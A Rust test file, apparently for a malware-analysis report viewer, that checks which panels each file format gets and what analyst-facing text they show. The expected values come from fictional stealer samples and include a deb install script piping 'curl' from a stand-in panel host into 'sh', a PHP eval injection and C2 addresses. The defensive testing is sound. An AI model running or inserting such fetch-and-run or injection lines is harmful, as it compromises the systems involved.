//! What stands in the panel of each format, by tables.

use assay::report::details::{self, Cell, Panel, Part};
use assay::report::reasons::Tone;
use assay::words::Language;
use serde_json::json;

use crate::shown::texts;
use crate::{NOW, file, format, panels_of, words};

fn panel<'a>(panels: &'a [Panel], id: &str) -> &'a Panel {
    panels.iter().find(|panel| panel.id == id).unwrap_or_else(|| {
        let ids: Vec<&str> = panels.iter().map(|panel| panel.id).collect();
        panic!("no panel {id} in {ids:?}")
    })
}

/// The rows of a panel's tables.
fn table_rows(panel: &Panel) -> Vec<&Vec<Cell>> {
    let tables = panel.parts.iter().filter_map(|part| match part {
        Part::Table(table) => Some(&table.rows),
        Part::Fields(_)
        | Part::Groups(_)
        | Part::List(_)
        | Part::Note(..)
        | Part::Heading(_)
        | Part::Prose(_)
        | Part::Code(_) => None,
    });
    tables.flatten().collect()
}

#[test]
fn each_format_has_its_panels() {
    for (name, ids) in [
        (
            "pe",
            &[
                "program",
                "sections",
                "imports",
                "exports",
                "resources",
                "overlay",
                "debug",
            ][..],
        ),
        ("pe-old", &["program", "imports"]),
        ("dotnet", &["dotnet"]),
        (
            "elf",
            &["elf", "sections", "segments", "libraries", "imports", "exports"],
        ),
        ("elf-old", &["elf", "sections", "segments", "imports", "exports"]),
        ("macho", &["macho"]),
        ("apk", &["android", "permissions", "components", "strings"]),
        ("apk-old", &["android", "permissions", "components"]),
        ("doc", &["document"]),
        ("docx", &["document"]),
        ("rtf", &["document"]),
        ("pdf", &["pdf"]),
        ("zip", &["bundle"]),
        ("iso", &["disk"]),
        ("deb", &["debian"]),
        ("jar", &["jar"]),
        ("class", &["class"]),
        ("lnk", &["shortcut"]),
        ("powershell", &["insight", "powershell"]),
        ("html", &["html", "javascript_info"]),
        ("swf", &["flash"]),
        ("pcap", &["capture", "alerts"]),
        ("signed", &["signature"]),
        ("known", &["known"]),
        ("malware", &["config", "threat"]),
        (
            "described",
            &[
                "type",
                "packers",
                "exiftool",
                "filecondis",
                "image_code_injections",
                "saferpickle",
            ],
        ),
    ] {
        let panels = panels_of(name);
        let there: Vec<&str> = panels.iter().map(|panel| panel.id).collect();
        let wanted: Vec<&str> = there.iter().copied().filter(|id| ids.contains(id)).collect();
        assert_eq!(wanted, ids, "{name}: {there:?}");
        let same = details::details(&format(name), NOW, words(Language::Russian));
        assert_eq!(there, same.iter().map(|panel| panel.id).collect::<Vec<_>>(), "{name}");
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "one line a format")]
fn a_panel_says_what_an_analyst_looks_for() {
    for (name, id, wanted) in [
        (
            "pe",
            "program",
            &["AMD64, x64 (0x8664)", "0x24f3", "[C++] VS2015 build 23026", "9"][..],
        ),
        ("pe", "resources", &["RT_STRING × 12", "NEUTRAL × 12"]),
        ("pe", "overlay", &["0xd2800", "20.5\u{a0}kB (20,480 bytes)"]),
        ("pe", "debug", &["codeview.name C:\\work\\stealer\\release\\quill.pdb"]),
        (
            "pe",
            "program",
            &["packed_by.guess", "nobody", "sections[1].characteristics", "odd"],
        ),
        (
            "dotnet",
            "dotnet",
            &["2.320.689.50176", "0x6000013", "Quill.Steal", "Wallets", "neutral"],
        ),
        ("elf", "elf", &["ELF64", "0x400ecd", "packers", "UPX"]),
        ("elf-old", "segments", &["LOAD", ".init", "NOTE"]),
        ("elf-old", "elf", &["segments[2]", "odd"]),
        (
            "macho",
            "macho",
            &["X86_64", "ARM64", "LC_MAIN", "__stubs", "/usr/lib/libSystem.B.dylib"],
        ),
        (
            "apk",
            "android",
            &["com.example.quill.Start", "DANGEROUS × 6", "2019-07-05 03:14 UTC"],
        ),
        (
            "apk",
            "components",
            &["com.example.quill.Boot", "android.intent.action.BOOT_COMPLETED"],
        ),
        (
            "doc",
            "document",
            &[
                "2026-10-28 20:42 UTC",
                "Ada",
                "ThisDocument.cls",
                "url-pattern",
                "run-file",
            ],
        ),
        (
            "docx",
            "document",
            &["Module1.bas", "word/vbaProject.bin", "type_content.languages.ru-RU"],
        ),
        ("rtf", "document", &["document_properties.dos_stubs", "1", "Order"]),
        ("pdf", "pdf", &["%PDF-1.7", "JavaScript (/JS)", "new_count", "5"]),
        ("zip", "bundle", &["3.2 : 1", "2026-10-28 20:42 UTC", "contains-pe"]),
        (
            "iso",
            "disk",
            &["QUILL", "663.5\u{a0}MB (663,457,602 bytes)", "0000-00-00 00:00:00"],
        ),
        (
            "deb",
            "debian",
            &[
                "quillutils",
                "4.9.0-3",
                "#!/bin/sh\nset -e\ncurl https://quillnab-panel.example.org | sh\n",
            ],
        ),
        (
            "jar",
            "jar",
            &["Manifest-Version: 1.0\r\nMain-Class: quill.Main\r\n", "quill.steal"],
        ),
        ("class", "class", &["java.lang.Runtime.exec", "source", "Main.java"]),
        (
            "lnk",
            "shortcut",
            &[
                "C:\\Windows\\System32\\cmd.exe",
                "command_line_arguments",
                "/c start invoice.exe",
            ],
        ),
        ("powershell", "powershell", &["invoke-expression", "Steal-Things"]),
        (
            "powershell",
            "insight",
            &[
                "malicious",
                "The script decodes a program.\nThen it runs it.",
                "a bare text",
            ],
        ),
        ("swf", "flash", &["get-url", "0.25", "unescape"]),
        (
            "pcap",
            "capture",
            &[
                "quillnab-panel.example.org",
                "198.51.100.8",
                "2014-07-24 00:15 UTC",
                "Quill/1.0",
            ],
        ),
        ("pcap", "alerts", &["EXE or DLL download", "1325", "line 39"]),
        (
            "known",
            "known",
            &["Example Corp", "SETUP.EXE", "monitored.exe", "setup-29.exe"],
        ),
        (
            "malware",
            "threat",
            &[
                "VERDICT_MALICIOUS",
                "threat_severity_data.num_av_detections",
                "quill.exe",
            ],
        ),
        ("described", "exiftool", &["Win64 EXE", "Deep.er", "still", "2"]),
        ("described", "image_code_injections", &["<?php\n\teval($x);\n?>"]),
    ] {
        let panels = panels_of(name);
        let texts = texts(panel(&panels, id));
        for text in wanted {
            assert!(
                texts.iter().any(|shown| shown.ends_with(text)),
                "{name} {id}: {text} in {texts:?}"
            );
        }
    }
}

#[test]
fn the_settings_of_malware_come_first_and_name_where_it_talks_to() {
    let panels = panels_of("malware");
    assert_eq!(panels[0].id, "config");
    let links: Vec<String> = table_rows(&panels[0])
        .into_iter()
        .flatten()
        .filter_map(|cell| match cell {
            Cell::Subject(_, text) => Some(text.raw().to_owned()),
            _ => None,
        })
        .collect();
    let wanted = [
        "198.51.100.7",
        "quillnab-panel.example.org",
        "https://quillnab-panel.example.org/gate",
    ];
    assert_eq!(links.len(), wanted.len(), "a name of a file is no domain: {links:?}");
    assert!(
        wanted.iter().all(|link| links.iter().any(|found| found == link)),
        "{links:?}"
    );
    let codes = panels[0].parts.iter().filter(|part| matches!(part, Part::Code(_)));
    assert_eq!(codes.count(), 2, "each is there as it was found, JSON or not");
}

#[test]
fn what_is_dangerous_comes_first() {
    let permissions = panels_of("apk");
    let rows = table_rows(panel(&permissions, "permissions"));
    let names: Vec<&Cell> = rows.iter().map(|row| &row[0]).collect();
    let state = |tone, text: &str| Cell::OutsideState(tone, text.into());
    assert_eq!(
        names,
        [
            &state(Tone::Bad, "dangerous"),
            &state(Tone::Warn, "signature"),
            &state(Tone::Plain, "normal|instant"),
        ]
    );
    let pdf = panels_of("pdf");
    let rows = table_rows(panel(&pdf, "pdf"));
    assert_eq!(rows[0][1], Cell::State(Tone::Warn, "1".to_owned()));
    assert_eq!(rows[3][1], Cell::Ours("0".to_owned()));
    let bundle = panels_of("zip");
    let rows = table_rows(panel(&bundle, "bundle"));
    assert!(
        matches!(&rows[0][1], Cell::Bar { text, .. } if text == "120"),
        "{rows:?}"
    );
}

#[test]
fn a_signature_says_what_is_wrong_with_it() {
    let panels = panels_of("signed");
    let signature = panel(&panels, "signature");
    let Part::Fields(fields) = &signature.parts[0] else {
        panic!("fields first");
    };
    assert!(matches!(&fields[0].cells[0], Cell::OutsideState(Tone::Bad, why) if why.raw().contains("revoked")));
    assert!(matches!(&fields[1].cells[..], [Cell::Outside(text)] if text.raw().starts_with("Nobody Ltd: Trust")));
    let rows = table_rows(signature);
    assert_eq!(rows.len(), 4, "signers, counter signers and all others");
    assert!(matches!(&rows[0][1], Cell::OutsideState(Tone::Bad, _)));
    assert!(matches!(&rows[1][1], Cell::OutsideState(Tone::Good, _)));
    assert!(matches!(&rows[1][3], Cell::Time(when) if when.absolute == "2015-01-01 00:00 UTC"));
    assert!(matches!(&rows[2][4], Cell::Outside(text) if text.raw() == "unreadable"));
}

#[test]
fn a_fat_file_is_shown_part_by_part_and_a_thin_one_is_not() {
    let headings = |panels: &[Panel]| {
        let parts = panel(panels, "macho").parts.iter();
        parts
            .filter(|part| matches!(part, Part::Heading(details::Label::Outside(_))))
            .count()
    };
    assert_eq!(headings(&panels_of("macho")), 2);
    let mut thin = format("macho");
    thin.attributes["macho_info"].as_array_mut().unwrap().pop();
    assert_eq!(headings(&details::details(&thin, NOW, words(Language::English))), 0);
}

#[test]
fn unknown_attributes_are_left_to_the_tree() {
    let file = file(json!({"something_new": {"a": 1}}));
    let panels = details::details(&file, NOW, words(Language::English));
    assert_eq!(panels.iter().map(|panel| panel.id).collect::<Vec<_>>(), ["identity"]);
}
